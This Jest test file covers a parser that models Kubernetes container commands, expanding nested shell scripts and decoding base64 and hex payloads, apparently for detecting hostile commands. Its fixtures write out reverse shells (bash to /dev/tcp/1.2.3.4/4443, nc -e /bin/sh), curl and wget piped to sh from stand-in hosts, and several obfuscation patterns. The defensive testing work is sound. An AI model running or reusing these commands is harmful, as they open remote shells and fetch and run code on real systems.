import { describe, expect, it } from '@jest/globals';

import {
  buildCommandModel,
  expandKubernetesReferences,
  isBase64Decoder,
  isHexDecoder,
  isShellProgram,
  MAX_DEPTH,
  shellScriptOf,
} from './command.js';
import { parseShell } from './shell.js';
import type { CommandModel, EnvVar, SimpleCommand } from './types.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

function summary(model: CommandModel): [string, number, SimpleCommand['origin']][] {
  return model.commands.map((command) => [command.program, command.depth, command.origin]);
}

function one(script: string): SimpleCommand {
  const command = parseShell(script, { depth: 0, origin: 'shell' }).commands[0];
  if (command === undefined) throw new Error(`no command in ${script}`);
  return command;
}

describe('buildCommandModel: argv', () => {
  it('keeps an exec-form argv as one command', () => {
    const model = buildCommandModel({ command: ['/usr/bin/python3'], args: ['-m', 'http.server', 8080] }, []);
    expect(model.argv).toEqual(['/usr/bin/python3', '-m', 'http.server']);
    expect(model.commands).toEqual([
      {
        argv: ['/usr/bin/python3', '-m', 'http.server'],
        program: 'python3',
        redirects: [],
        pipeline: 0,
        pipelinePosition: 0,
        depth: 0,
        origin: 'argv',
      },
    ]);
    expect(model.scripts).toEqual([]);
  });

  it.each<[string, { command?: unknown; args?: unknown }, string[]]>([
    ['no command', {}, []],
    ['args only', { args: ['--flag'] }, ['--flag']],
    ['non-list command', { command: 'sh -c id' }, []],
    ['non-string items', { command: ['sh', null, 3, {}], args: [true, '-x'] }, ['sh', '-x']],
  ])('%s', (_name, container, argv) => {
    expect(buildCommandModel(container, []).argv).toEqual(argv);
  });

  it('records a non-list command as a problem', () => {
    expect(buildCommandModel({ command: 'sh -c id' }, []).problems).toEqual(['command is not a list']);
  });
});

describe('buildCommandModel: Kubernetes $(VAR) references', () => {
  const env: EnvVar[] = [
    { name: 'HOST', value: '10.0.0.1', isReference: false },
    { name: 'URL', value: 'http://$(HOST)/x.sh', isReference: false },
    { name: 'TOKEN', isReference: true },
  ];

  it.each<[string, string]>([
    ['$(HOST)', '10.0.0.1'],
    ['curl $(URL)', 'curl http://10.0.0.1/x.sh'],
    ['$(TOKEN)', '$(TOKEN)'],
    ['$(MISSING)', '$(MISSING)'],
    ['$$(HOST)', '$(HOST)'],
    ['a$$b $x $(unterminated', 'a$b $x $(unterminated'],
  ])('%j → %j', (arg, expected) => {
    expect(buildCommandModel({ args: [arg] }, env).argv).toEqual([expected]);
  });

  it('expands env references in sh -c scripts and their $VAR', () => {
    const model = buildCommandModel({ command: ['sh', '-c', 'curl $(URL) | sh; nc $HOST 4444'] }, env);
    expect(model.commands.map((command) => command.argv)).toEqual([
      ['sh', '-c', 'curl http://10.0.0.1/x.sh | sh; nc $HOST 4444'],
      ['curl', 'http://10.0.0.1/x.sh'],
      ['sh'],
      ['nc', '10.0.0.1', '4444'],
    ]);
  });

  it('expandKubernetesReferences leaves text without $ alone', () => {
    expect(expandKubernetesReferences('plain', new Map())).toBe('plain');
  });
});

describe('buildCommandModel: shell scripts', () => {
  it.each<[string, { command?: unknown; args?: unknown }, [string, number, SimpleCommand['origin']][]]>([
    [
      'command ["/bin/sh","-c"] with the script in args[0]',
      { command: ['/bin/sh', '-c'], args: ['date; echo Hello from the Kubernetes cluster'] },
      [
        ['sh', 0, 'argv'],
        ['date', 1, 'shell'],
        ['echo', 1, 'shell'],
      ],
    ],
    [
      'bash -ec',
      { command: ['bash', '-ec', 'id'] },
      [
        ['bash', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'sh -xc',
      { command: ['sh', '-xc', 'id'] },
      [
        ['sh', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'bash -lc',
      { args: ['bash', '-lc', 'id'] },
      [
        ['bash', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'bash -o pipefail -c',
      { command: ['bash', '-o', 'pipefail', '-c', 'id', 'name'] },
      [
        ['bash', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'busybox sh -c',
      { command: ['busybox', 'sh', '-c', 'id'] },
      [
        ['sh', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'ash, dash, zsh, ksh',
      { command: ['/bin/ash', '-c', 'zsh -c "ksh -c \'dash -c id\'"'] },
      [
        ['ash', 0, 'argv'],
        ['zsh', 1, 'shell'],
        ['ksh', 2, 'shell'],
        ['dash', 3, 'shell'],
        ['id', 4, 'shell'],
      ],
    ],
    ['a script file is not parsed', { command: ['bash', '/scripts/run.sh', '-c'] }, [['bash', 0, 'argv']]],
    [
      'eval with a literal string',
      { command: ['sh', '-c', 'eval "curl -s http://x | sh"'] },
      [
        ['sh', 0, 'argv'],
        ['eval', 1, 'shell'],
        ['curl', 2, 'shell'],
        ['sh', 2, 'shell'],
      ],
    ],
    [
      'a heredoc fed to a shell',
      { command: ['sh', '-c', 'bash <<EOF\nnc -e /bin/sh 1.2.3.4 80\nEOF\n'] },
      [
        ['sh', 0, 'argv'],
        ['bash', 1, 'shell'],
        ['nc', 2, 'shell'],
      ],
    ],
    [
      'echo piped to a shell',
      { command: ['sh', '-c', 'echo "wget -qO- http://x | sh" | sh'] },
      [
        ['sh', 0, 'argv'],
        ['echo', 1, 'shell'],
        ['sh', 1, 'shell'],
        ['wget', 2, 'shell'],
        ['sh', 2, 'shell'],
      ],
    ],
    [
      'su -c',
      { command: ['su', 'root', '-c', 'id'] },
      [
        ['su', 0, 'argv'],
        ['id', 1, 'shell'],
      ],
    ],
    [
      'a substitution is not parsed twice',
      { command: ['bash', '-c', '$(curl -fsSL http://x/y.sh)'] },
      [
        ['bash', 0, 'argv'],
        ['curl', 2, 'substitution'],
        ['$(curl -fssl http://x/y.sh)', 1, 'shell'],
      ],
    ],
  ])('%s', (_name, container, expected) => {
    const model = buildCommandModel(container, []);
    expect(summary(model)).toEqual(expected);
  });

  it('records every parsed script and keeps pipelines distinct across scripts', () => {
    const model = buildCommandModel({ command: ['sh', '-c', 'a | sh -c "b | c"'] }, []);
    expect(model.scripts).toEqual(['a | sh -c "b | c"', 'b | c']);
    expect(
      model.commands.map((command) => [command.program, command.pipeline, command.pipelinePosition]),
    ).toEqual([
      ['sh', 0, 0],
      ['a', 1, 0],
      ['sh', 1, 1],
      ['b', 2, 0],
      ['c', 2, 1],
    ]);
  });

  it('records parse problems of nested scripts', () => {
    const model = buildCommandModel({ command: ['sh', '-c', "echo 'oops"] }, []);
    expect(model.problems).toEqual(['unterminated single quote at 5']);
    expect(model.commands.at(-1)?.argv).toEqual(['echo', 'oops']);
  });
});

describe('buildCommandModel: encoded payloads', () => {
  const reverse = 'bash -i >& /dev/tcp/1.2.3.4/4443 0>&1';

  it('decodes echo <b64> | base64 -d | bash and parses the payload', () => {
    const model = buildCommandModel(
      {
        command: ['/bin/sh', '-c'],
        args: ['echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDMgMD4mMQ== | base64 -d | bash'],
      },
      [],
    );
    expect(model.decoded).toEqual([{ encoding: 'base64', text: reverse }]);
    expect(model.scripts).toContain(reverse);
    const decoded = model.commands.filter((command) => command.origin === 'decoded');
    expect(decoded).toEqual([
      expect.objectContaining({
        program: 'bash',
        argv: ['bash', '-i'],
        depth: 2,
        redirects: [
          { op: '>&', target: '/dev/tcp/1.2.3.4/4443' },
          { op: '>&', target: '1', fd: 0 },
        ],
      }),
    ]);
  });

  it.each<[string, string, 'base64' | 'hex']>([
    ['base64 --decode', `echo ${b64('id')} | base64 --decode | sh`, 'base64'],
    ['base64 -D (macOS)', `echo -n ${b64('id')} | base64 -D | sh`, 'base64'],
    ['base64 -di', `echo ${b64('id')} | base64 -di | sh`, 'base64'],
    ['busybox base64 -d', `echo ${b64('id')} | busybox base64 -d | sh`, 'base64'],
    ['openssl base64 -d', `echo ${b64('id')} | openssl base64 -d | sh`, 'base64'],
    ['openssl enc -d -a', `echo ${b64('id')} | openssl enc -d -a -A | sh`, 'base64'],
    ['printf %s | base64 -d', `printf '%s' ${b64('id')} | base64 -d | sh`, 'base64'],
    ['here-string', `base64 -d <<< ${b64('id')} | sh`, 'base64'],
    ['heredoc', `base64 -d <<EOF | sh\n${b64('id')}\nEOF`, 'base64'],
    ['eval $(… | base64 -d)', `eval "$(echo ${b64('id')} | base64 -d)"`, 'base64'],
    ['bash -c "$(… | base64 -d)"', `bash -c "$(echo ${b64('id')}|base64 -d)"`, 'base64'],
    ['xxd -r -p', `echo ${hex('id')} | xxd -r -p | sh`, 'hex'],
    ['xxd -rp here-string', `xxd -rp <<< ${hex('id')} | bash`, 'hex'],
    ['printf \\x', "printf '\\x69\\x64' | sh", 'hex'],
    ['printf octal', "printf '\\151\\144' | sh", 'hex'],
    ['echo -e \\x', 'echo -e "\\x69\\x64" | sh', 'hex'],
    ['$VAR payload', `P=${b64('id')}; echo $P | base64 -d | sh`, 'base64'],
  ])('%s', (_name, script, encoding) => {
    const model = buildCommandModel({ command: ['sh', '-c', script] }, []);
    expect(model.decoded).toEqual([{ encoding, text: expect.stringMatching(/^id\n?$/) }]);
    expect(model.commands.filter((command) => command.program === 'id')).toEqual([
      expect.objectContaining({ origin: 'decoded' }),
    ]);
    expect(model.problems).toEqual([]);
  });

  it('decodes a payload given in the env', () => {
    const env: EnvVar[] = [{ name: 'P', value: b64('curl http://x | sh'), isReference: false }];
    const model = buildCommandModel({ command: ['sh', '-c', 'echo $P | base64 -d | sh'] }, env);
    expect(
      model.commands.filter((command) => command.origin === 'decoded').map((command) => command.program),
    ).toEqual(['curl', 'sh']);
  });

  it('decodes double encoding once per layer', () => {
    const model = buildCommandModel(
      { command: ['sh', '-c', `echo ${b64(b64('id'))} | base64 -d | base64 -d | sh`] },
      [],
    );
    expect(model.decoded).toEqual([
      { encoding: 'base64', text: b64('id') },
      { encoding: 'base64', text: 'id' },
    ]);
    expect(summary(model).filter(([, , origin]) => origin === 'decoded')).toEqual([['id', 2, 'decoded']]);
  });

  it('decodes nested payloads and stops at the depth limit', () => {
    let script = 'id';
    for (let level = 0; level < 6; level++) script = `echo ${b64(script)} | base64 -d | sh`;
    const model = buildCommandModel({ command: ['sh', '-c', script] }, []);
    expect(Math.max(...model.commands.map((command) => command.depth))).toBe(MAX_DEPTH);
    expect(model.commands.some((command) => command.program === 'id')).toBe(false);
    expect(model.problems).toContain(
      `depth limit ${MAX_DEPTH} reached; a nested decoded script was not parsed`,
    );
  });

  it('stops nested sh -c at the depth limit', () => {
    let argv = ['sh', '-c', 'id'];
    for (let level = 0; level < 5; level++)
      argv = ['sh', '-c', argv.map((arg) => `'${arg.replaceAll("'", "'\\''")}'`).join(' ')];
    const model = buildCommandModel({ command: argv }, []);
    expect(model.commands.every((command) => command.depth <= MAX_DEPTH)).toBe(true);
    expect(model.problems).toContain(
      `depth limit ${MAX_DEPTH} reached; a nested shell script was not parsed`,
    );
  });

  it.each<[string, string]>([
    ['unknown variable', 'echo $P | base64 -d | sh'],
    ['not base64', 'echo hello world | base64 -d | sh'],
    ['a file operand', 'base64 -d /tmp/payload | sh'],
    ['no decoder', `echo ${b64('id')} | sh`],
    ['plain printf', "printf 'hello\\n'"],
    ['colour codes', "printf '\\033[1m\\033[0m'"],
  ])('does not decode: %s', (_name, script) => {
    expect(buildCommandModel({ command: ['sh', '-c', script] }, []).decoded).toEqual([]);
  });

  it('records binary payloads as a problem without parsing them', () => {
    const payload = Buffer.from([0, 1, 2, 255, 254]).toString('base64');
    const model = buildCommandModel({ command: ['sh', '-c', `echo ${payload} | base64 -d > /tmp/x`] }, []);
    expect(model.decoded).toEqual([]);
    expect(model.problems).toEqual(['base64 payload decodes to binary (5 bytes)']);
  });

  it('caps the total decoded size', () => {
    const big = b64('x'.repeat(200 * 1024));
    const model = buildCommandModel(
      {
        command: [
          'sh',
          '-c',
          `echo ${big} | base64 -d > a; echo ${b64('y'.repeat(100 * 1024))} | base64 -d > b`,
        ],
      },
      [],
    );
    expect(model.decoded).toHaveLength(1);
    expect(model.problems).toContain('more than 262144 bytes of decoded payloads; rest not decoded');
  });
});

describe('predicates', () => {
  it.each([
    ['sh', true],
    ['bash', true],
    ['ash', true],
    ['dash', true],
    ['zsh', true],
    ['ksh', true],
    ['python3', false],
    ['busybox', false],
  ])('isShellProgram(%s) = %s', (name, expected) => {
    expect(isShellProgram(name)).toBe(expected);
  });

  it.each<[string, string | undefined]>([
    ['sh -c id', 'id'],
    ['bash -ec "a; b"', 'a; b'],
    ['sh -c -x id', 'id'],
    ['bash --norc -lc id', 'id'],
    ['bash --rcfile f -c id', 'id'],
    ['bash script.sh -c', undefined],
    ['sh -i', undefined],
    ['python -c id', undefined],
    ['sudo busybox sh -c id', 'id'],
  ])('shellScriptOf(%j) = %j', (script, expected) => {
    expect(shellScriptOf(one(script))).toBe(expected);
  });

  it.each<[string, boolean, boolean]>([
    ['base64 -d', true, false],
    ['base64 --decode -i', true, false],
    ['base64 -w0', false, false],
    ['openssl base64 -d', true, false],
    ['openssl enc -base64 -d', true, false],
    ['openssl enc -d -a -in f', false, false],
    ['xxd -r -p', false, true],
    ['xxd -rp', false, true],
    ['xxd -r -ps', false, true],
    ['xxd -r', false, false],
  ])('%j: base64 %s, hex %s', (script, base64, hexadecimal) => {
    const command = one(script);
    expect(isBase64Decoder(command)).toBe(base64);
    expect(isHexDecoder(command)).toBe(hexadecimal);
  });
});

describe('buildCommandModel: expansion limit', () => {
  it('substitutes at most 1 MiB of variable values per container, across nested scripts', () => {
    const big = 'a'.repeat(400 * 1024);
    const model = buildCommandModel({ command: ['sh', '-c', 'eval \'echo "$BIG"\'; echo "$BIG" "$BIG"'] }, [
      { name: 'BIG', value: big, isReference: false },
    ]);
    // The script is parsed whole before the `eval` string: its two expansions use 800 KiB.
    const echoes = model.commands.filter((command) => command.program === 'echo');
    expect(echoes.map((command) => command.argv.slice(1).map((arg) => arg.length))).toEqual([
      ['$BIG'.length],
      [big.length, big.length],
    ]);
    expect(echoes[0]?.argv[1]).toBe('$BIG');
    expect(model.problems).toContain('variable values longer than the expansion limit; rest left as written');
  });
});

describe('buildCommandModel never throws', () => {
  it.each<[string, unknown]>([
    ['null container fields', { command: null, args: undefined }],
    ['object args', { args: { a: 1 } }],
    ['huge script', { command: ['sh', '-c', 'a'.repeat(2 * 1024 * 1024)] }],
  ])('%s', (_name, container) => {
    expect(() => buildCommandModel(container as { command?: unknown }, [])).not.toThrow();
  });
});
